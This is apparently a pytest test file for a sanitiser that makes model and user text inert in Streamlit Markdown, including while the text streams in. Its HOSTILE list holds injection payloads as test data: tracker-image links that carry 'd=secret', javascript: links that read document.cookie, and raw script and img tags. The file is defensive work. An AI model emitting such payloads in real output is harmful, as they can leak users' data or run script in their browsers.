"""Model and user text made safe for Streamlit's Markdown: nothing loads, nothing links.

`_seen` is what a reader sees: CommonMark shows a character reference (`&#91;`) as its
character. `_assert_inert` checks what Streamlit could still act on: no raw character that
starts syntax, and in the text a reader sees, nothing its link and icon rewriting matches.
"""

from __future__ import annotations

import html
import random
import re
import time

import pytest

from core.rendering import (
    WORD_JOINER,
    SafeMarkdownStream,
    escape_markdown,
    safe_markdown,
    safe_markdown_stream,
)

# What Streamlit's Markdown (GFM, KaTeX, directives, emoji) could still turn into a link, an
# image, HTML, code, maths or a directive, were it in the output raw.
_RAW_SYNTAX = re.compile(r"[\[\]<`$~\\:@]|&(?!#[0-9]+;)")
# Streamlit rewrites text it has parsed: bare addresses become links, shortcodes icons.
_REWRITTEN = re.compile(
    r"https?://|www\.|[-.\w+]@|:material[/_]|:streamlit:|:[a-z][a-z0-9-]*\[",
    re.IGNORECASE,
)


def _seen(markdown: str) -> str:
    return html.unescape(markdown)


def _assert_inert(markdown: str) -> None:
    assert _RAW_SYNTAX.search(markdown) is None, markdown
    assert _REWRITTEN.search(_seen(markdown)) is None, _seen(markdown)


HOSTILE = [
    "![chart](http://tracker.invalid/answer.png?d=secret)",
    "![local](/answer.png?d=secret)",
    "[click](javascript:alert(document.cookie))",
    "[a [nested [deeply]] link](http://tracker.invalid/n) and [[[x]]] and ]]][[[",
    "![x][1] and [y][1] and [z][]\n\n[1]: http://tracker.invalid/ref.png",
    "[1]: <http://tracker.invalid/angle.png> 'title'",
    "<http://tracker.invalid/auto> <mailto:me@tracker.invalid> <me@tracker.invalid>",
    "bare http://tracker.invalid/p www.tracker.invalid WWW.TRACKER.INVALID me@tracker.invalid",
    '<img src="http://tracker.invalid/raw.png"> <script>alert(1)</script> <b>bold</b>',
    '<a href="javascript:alert(1)">x</a> <!-- comment --> <?php ?>',
    "$x^2$ and $$\\int$$ and \\(x\\) costs $5",
    ":red[alarm] :blue-background[x] :color[x]{foreground=red} :small[tiny] :help[tip]",
    ":material/home: :material_home: :streamlit: :smile: :+1:",
    "`code [x](http://tracker.invalid/c)` ```fenced``` ~~~tilde~~~ ~strike~",
    "&lt;img src=x&gt; &#60;img&#62; &#x5B;x&#x5D;(http://tracker.invalid/e) &#58;red[x] &bogus;",
    "\\[x\\](http://tracker.invalid/b) \\![y](http://tracker.invalid/b2) back\\slash\\",
    "![![inner](http://tracker.invalid/i.png)](http://tracker.invalid/outer)",
    "[![badge](http://tracker.invalid/badge.svg)](http://tracker.invalid/target)",
    "![unclosed](http://tracker.invalid/u.png [open [ ( < & \\",
    "| a | ![t](http://tracker.invalid/t.png) |\n|---|---|\n| `x|y` | [l](http://e.invalid) |",
    "footnote[^1]\n\n[^1]: http://tracker.invalid/fn",
    "line one\rline two\r\n# heading\n    indented [x](http://tracker.invalid/code)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_model_output_keeps_nothing_that_loads_or_links(text: str) -> None:
    out = safe_markdown(text)
    _assert_inert(out)
    assert "tracker.invalid/answer" not in _seen(out)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_user_text_is_shown_exactly_as_typed(text: str) -> None:
    out = escape_markdown(text)
    _assert_inert(out)
    seen = _seen(out).replace(WORD_JOINER, "").replace("\u00a0", " ").replace("  \n", "\n")
    assert seen == text.replace("\r\n", "\n").replace("\r", "\n")


def test_an_image_becomes_its_alt_text() -> None:
    out = safe_markdown("Look: ![a calm lake](http://tracker.invalid/answer.png?d=secret)!")
    assert _seen(out).replace(WORD_JOINER, "") == "Look: a calm lake!"


def test_reference_images_and_links_become_text_and_their_definitions_go() -> None:
    out = safe_markdown("![x][1] and [the guide][1].\n\n[1]: http://tracker.invalid/ref.png")
    assert out == "x and the guide.\n\n"


def test_a_link_becomes_its_text_with_the_address_as_plain_text() -> None:
    out = safe_markdown("Call [a helpline](https://findahelpline.com) today.")
    assert out == f"Call a helpline (https&#58;{WORD_JOINER}//findahelpline.com) today."


def test_a_script_link_keeps_only_its_text() -> None:
    assert safe_markdown("[press me](javascript:alert(1)) now") == "press me now"
    assert safe_markdown("[me](data:text/html,hi) [you](/answer.png)") == "me you"


def test_nested_brackets_are_one_link() -> None:
    out = safe_markdown("[a [b] c](http://tracker.invalid/x)")
    assert _seen(out).replace(WORD_JOINER, "") == "a [b] c (http://tracker.invalid/x)"


def test_autolinks_and_bare_addresses_show_but_cannot_become_links() -> None:
    out = safe_markdown("See <http://x.invalid/a>, www.x.invalid and me@x.invalid.")
    assert _seen(out).replace(WORD_JOINER, "") == (
        "See http://x.invalid/a, www.x.invalid and me@x.invalid."
    )
    assert "http:" + WORD_JOINER + "//" in _seen(out)
    assert "www" + WORD_JOINER + "." in _seen(out)
    assert WORD_JOINER + "@" in _seen(out)


def test_raw_html_maths_and_directives_show_as_typed() -> None:
    text = '<img src="x"> costs $5 :red[now] :material/home:'
    assert _seen(safe_markdown(text)).replace(WORD_JOINER, "") == text


def test_the_formatting_a_model_uses_is_kept() -> None:
    text = "**Try this:**\n\n1. Breathe *in*\n2. Breathe out\n\n- one\n  - two\n\n> a quote\n"
    out = safe_markdown(text)
    assert out == text.replace(":", "&#58;" + WORD_JOINER)


def test_headings_are_demoted_and_setext_underlines_shown() -> None:
    assert safe_markdown("# Big\n## Mid\n### Small\n#### Tiny") == (
        "#### Big\n##### Mid\n###### Small\n###### Tiny"
    )
    assert safe_markdown("> ## Quoted") == "> ##### Quoted"
    assert safe_markdown("Title\n===\nOther\n---") == "Title\n&#61;==\nOther\n&#45;--"
    assert safe_markdown("Above\n\n---\n\nBelow") == "Above\n\n---\n\nBelow"  # a rule stays


def test_an_indented_line_after_a_blank_is_not_a_code_block() -> None:
    assert safe_markdown("Hi\n\n    [x](y) & z") == "Hi\n\nx &#38; z"
    assert safe_markdown("- item\n\n    more of the item") == "- item\n\n    more of the item"


def test_escapes_and_references_the_model_wrote_show_as_their_character() -> None:
    out = safe_markdown("\\*not bold\\* &amp; &lt;b&gt; &#91;x&#93; &bogus;")
    assert _seen(out) == "*not bold* & <b> [x] &bogus;"
    _assert_inert(out)


def test_user_text_keeps_its_lines_and_indent_but_makes_no_blocks() -> None:
    out = escape_markdown("# Not a heading\n- not a list\n1. not a list\n    not code")
    assert not re.search(r"^[#\-]|^1\.", re.sub(r"&#[0-9]+;", "", out), re.MULTILINE)
    assert out.count("  \n") == 3
    assert "\u00a0" * 4 + "not code" in out
    assert escape_markdown("a -> b <- c -- d") == (
        f"a -{WORD_JOINER}&#62; b &#60;{WORD_JOINER}- c -{WORD_JOINER}- d"
    )


def test_a_display_name_is_shown_as_typed() -> None:
    name = "Sam ![n](http://tracker.invalid/name.png) *Sam* :red[x] $1"
    out = escape_markdown(name)
    _assert_inert(out)
    assert _seen(out).replace(WORD_JOINER, "") == name


STREAMED = (
    "Hello **there**. ![chart](http://x.invalid/answer.png?d=1) and [a link](javascript:x) "
    "or [site](https://findahelpline.com).\n# Big\n## Mid\n\nText\n---\n- item\n  - nested\n"
    "12. one\n2. two\n\n    code\n[1]: http://x.invalid/r.png\n![x][1] <http://a.b/c> "
    "&amp; \\* www.x.com a@b.c :red[x] $5 ~~s~~ `c`\r\n> ## q\n![open [ (\nwww"
)


def test_streamed_pieces_join_to_the_whole_answer_however_they_are_cut() -> None:
    whole = safe_markdown(STREAMED)
    chance = random.Random(6)
    for _ in range(300):
        cuts = sorted(chance.sample(range(len(STREAMED) + 1), chance.randint(0, 25)))
        pieces = [STREAMED[a:b] for a, b in zip([0, *cuts], [*cuts, len(STREAMED)], strict=True)]
        assert "".join(safe_markdown_stream(pieces)) == whole
    one_by_one = "".join(safe_markdown_stream(STREAMED))
    assert one_by_one == whole


def test_an_unfinished_image_is_held_back_until_it_is_complete() -> None:
    stream = SafeMarkdownStream()
    assert stream.feed("You matter. ![a lake](http://tracker.invalid/ans") == "You matter. "
    assert stream.feed("wer.png) Breathe.") == "a lake Breathe."
    assert stream.feed("") == ""
    assert stream.finish() == ""


def test_keep_alives_pass_through_as_empty_pieces() -> None:
    out = list(safe_markdown_stream(["", "", "Hi", "", " there"]))
    assert out == ["", "", "Hi", "", " there"]


def test_www_split_across_pieces_still_cannot_become_a_link() -> None:
    assert "".join(safe_markdown_stream(["see ww", "w", ".x.invalid"])) == (
        f"see www{WORD_JOINER}.x.invalid"
    )


PATHOLOGICAL = [*"[ ![ ]( [a]( < <a & &# \\ ( [[] ![x][".split(), "- ", "\n"]


@pytest.mark.parametrize("unit", PATHOLOGICAL)
def test_time_is_linear_in_the_length(unit: str) -> None:
    def seconds(size: int) -> float:
        text = unit * (size // len(unit))
        start = time.perf_counter()
        safe_markdown(text)
        escape_markdown(text)
        return time.perf_counter() - start

    small, large = seconds(20_000), seconds(80_000)
    assert large < 5.0
    assert large < 10 * max(small, 0.005)  # quadratic would be 16x
